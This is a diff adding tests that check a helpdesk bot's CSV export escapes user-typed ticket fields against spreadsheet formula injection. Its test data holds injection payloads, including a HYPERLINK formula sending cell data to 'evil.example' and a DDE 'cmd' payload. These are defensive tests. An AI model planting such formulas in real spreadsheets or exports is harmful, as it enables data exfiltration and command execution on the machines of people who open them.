@@ -13,7 +13,7 @@ from sqlmodel import Session, select
 from bot.core import availability, tickets
 from bot.core.tickets import Actor
 from bot.i18n import catalogue
-from bot.reports import KINDS, build_report, to_csv, to_html, to_pdf
+from bot.reports import KINDS, Report, Table, build_report, to_csv, to_html, to_pdf
 from bot.reports.evidence import FORMS, build_pack, forms
 from bot.runtime import Helpdesk
 from storage.db import session_scope
@@ -312,3 +312,59 @@ def test_evidence_pack_in_english(records: Helpdesk) -> None:
     assert '<html lang="en">' in index and "<h1>SPBE Service Management Evidence</h1>" in index
     assert all(form in index for form, _ in forms("en")) and "Service catalogue" in index
     assert "<th>Technical managers</th>" in catalogue_page
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")',
+    "+62 811 1234",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tjudul",
+    "\rjudul",
+]
+
+
+def test_csv_cells_never_run_as_formulas(helpdesk: Helpdesk) -> None:
+    """Titles a user typed reach the CSV as text: a spreadsheet opening it runs nothing."""
+    with session_scope(helpdesk.engine) as s:
+        user = _person(s, "pengguna")
+        for n, title in enumerate(FORMULAS):
+            ticket = tickets.open_ticket(
+                s,
+                type_="gangguan",
+                title=title,
+                service_id="vpn",
+                reporter=user,
+                now=T0 + timedelta(minutes=n),
+            )
+            tech = Actor(_tech(s, "vpn"), "console")
+            tickets.take(s, ticket, tech, now=ticket.created_at + timedelta(minutes=5))
+            tickets.resolve(
+                s,
+                ticket,
+                tech,
+                resolution="=cmd|' /C calc'!A0",
+                root_cause="@konfigurasi",
+                now=ticket.created_at + timedelta(hours=1),
+            )
+    with Session(helpdesk.engine) as s:
+        report = build_report("incidents", s, start=START, end=END, tz=TZ, now=NOW)
+    rows = list(csv.reader(io.StringIO(to_csv(report))))
+    header = next(r for r in rows if r and r[0] == "Nomor")
+    body = rows[rows.index(header) + 1 :]
+    title_at, resolution_at = header.index("Judul"), header.index("Penyelesaian")
+    assert sorted(r[title_at] for r in body) == sorted("'" + f for f in FORMULAS)
+    assert {r[resolution_at] for r in body} == {"'=cmd|' /C calc'!A0"}
+    assert {r[header.index("Akar masalah")] for r in body} == {"'@konfigurasi"}
+    assert all(r[-1].isdigit() for r in body)  # the counts stay numbers
+
+
+def test_csv_numbers_stay_numbers() -> None:
+    report = Report(
+        "x",
+        "Uji",
+        NOW,
+        sections=[Table("Angka", ["Selisih", "Nilai"], [["-", -2.5], ["=1+1", -3], [None, 7]])],
+    )
+    rows = list(csv.reader(io.StringIO(to_csv(report))))
+    assert rows[-3:] == [["'-", "-2.5"], ["'=1+1", "-3"], ["", "7"]]
